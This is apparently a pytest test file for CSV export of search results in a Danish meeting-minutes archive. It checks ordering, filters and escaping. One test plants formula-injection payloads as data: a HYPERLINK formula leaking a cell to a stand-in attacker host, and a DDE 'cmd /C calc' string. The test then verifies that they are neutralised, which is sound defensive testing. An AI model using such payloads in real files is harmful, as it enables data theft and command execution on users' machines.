"""CSV of any search: the same items in the same order as the search page, Excel-ready, escaped."""

import csv
import io
import re

import pytest
from django.http import StreamingHttpResponse

from minutes.models import AgendaItem, Body


def rows(response, delimiter=";"):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def page_ids(html):
    return [int(pk) for pk in re.findall(r'<h3 class="hit__title"><a href="/punkt/(\d+)/">', html)]


def test_csv_has_the_search_pages_items_in_its_order(archive, client):
    for params in ({"q": "budget"}, {"q": "flåde", "sortering": "aeldste"}, {"beslutning": "approved"}):
        table = rows(client.get("/soeg/csv/", params))
        assert table[0] == [
            "Mødedato",
            "Udvalg",
            "Punkt",
            "Titel",
            "Sagsnr.",
            "Beslutningstype",
            "Beslutning",
            "Side",
        ]
        csv_ids = [int(row[7].rstrip("/").rsplit("/", 1)[1]) for row in table[1:]]
        html = client.get("/soeg/", params).content.decode()
        assert csv_ids[:20] == page_ids(html) and csv_ids
        assert all(row[7].startswith("http://testserver/punkt/") for row in table[1:])


def test_csv_applies_the_filters(archive, client):
    table = rows(client.get("/soeg/csv/", {"aar": "2019"}))[1:]
    assert len(table) == AgendaItem.objects.filter(meeting_date__year=2019).count() > 0
    assert {row[0][:4] for row in table} == {"2019"}
    assert {row[1] for row in table} == {"Direktionen"}


def test_csv_escapes_separators_quotes_and_newlines(archive, client):
    item = AgendaItem.objects.exclude(decision="").order_by("pk").first()
    item.decision = 'Godkendt; dog "med forbehold"\nfor budgettet, se bilag'
    item.save()
    for sep, delimiter in (("semikolon", ";"), ("komma", ",")):
        response = client.get("/soeg/csv/", {"sagsnr": item.case.number, "sep": sep})
        assert response["Content-Disposition"] == 'attachment; filename="referatarkiv-soegning.csv"'
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        table = rows(response, delimiter)
        mine = [row for row in table[1:] if row[7].endswith(f"/punkt/{item.pk}/")]
        assert mine[0][6] == item.decision and mine[0][5] == item.get_decision_type_display()


def test_results_page_links_its_csv(archive, client):
    html = client.get("/soeg/", {"q": "budget", "aar": "2024"}).content.decode()
    assert 'href="/soeg/csv/?q=budget&amp;aar=2024"' in html
    assert 'href="/soeg/csv/?q=budget&amp;aar=2024&amp;sep=komma"' in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(archive, client, start):
    item = AgendaItem.objects.exclude(decision="").exclude(case=None).order_by("pk").first()
    item.title = f'{start}HYPERLINK("http://angriber.example/?d="&A1;"Se bilag")'
    item.decision = f"{start}1+1 Godkendt; dog med forbehold"
    item.save()
    Body.objects.filter(pk=item.meeting_body_id).update(name=f"{start}cmd|' /C calc'!A0")
    for sep, delimiter in (("semikolon", ";"), ("komma", ",")):
        table = rows(client.get("/soeg/csv/", {"sagsnr": item.case.number, "sep": sep}), delimiter)
        mine = [row for row in table[1:] if row[7].endswith(f"/punkt/{item.pk}/")][0]
        # One apostrophe in front, the text otherwise as it is.
        assert mine[3] == "'" + item.title
        assert mine[6] == "'" + item.decision
        assert mine[1] == f"'{start}cmd|' /C calc'!A0"
        assert mine[0] == item.meeting_date.isoformat() and mine[2] == str(item.number)


def test_csv_leaves_text_that_only_contains_formula_signs_alone(archive, client):
    item = AgendaItem.objects.exclude(decision="").exclude(case=None).order_by("pk").first()
    item.decision = "Godkendt: 2 + 2 = 4, se @bilag - og -5 kr."
    item.save()
    table = rows(client.get("/soeg/csv/", {"sagsnr": item.case.number}))
    mine = [row for row in table[1:] if row[7].endswith(f"/punkt/{item.pk}/")][0]
    assert mine[6] == item.decision
